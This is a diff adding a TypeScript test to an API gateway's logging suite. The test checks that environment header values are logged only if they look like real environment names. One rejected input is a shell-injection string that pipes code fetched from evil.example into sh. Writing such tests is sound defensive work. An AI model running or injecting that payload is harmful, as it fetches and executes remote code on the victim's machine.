@@ -91,6 +91,22 @@ test('refusals are logged with their code; strangers leave no trace of which rou
   assert.deepEqual([stranger.status_code, stranger.error, stranger.route_id, stranger.slug], [401, 'authentication_required', null, null]);
 });
 
+test('what a caller writes for an environment is kept only if one could be called so: the line is shown, and copied into shells', async () => {
+  const w = await workspace();
+  await makeRoute(w, 'r', upstream.url);
+  const { text: key } = await w.key('live', 'Key - Invoke');
+  await served(running, w);
+  const asked = async (environment: string) => {
+    const { error, environment: kept } = await rowOf(
+      await ask(port, w.tenant.slug, '/r', { key, headers: { 'x-svc-environment': environment } }),
+    );
+    return [error, kept];
+  };
+  assert.deepEqual(await asked('never-made'), ['environment_not_configured', 'never-made']);
+  for (const text of ['$A $(curl evil.example|sh)', key, '<script>', 'a'.repeat(64)])
+    assert.deepEqual(await asked(text), ['environment_not_configured', null], text);
+});
+
 test('strangers fill no more than sixty rows a minute', async () => {
   const w = await workspace();
   await served(running, w);
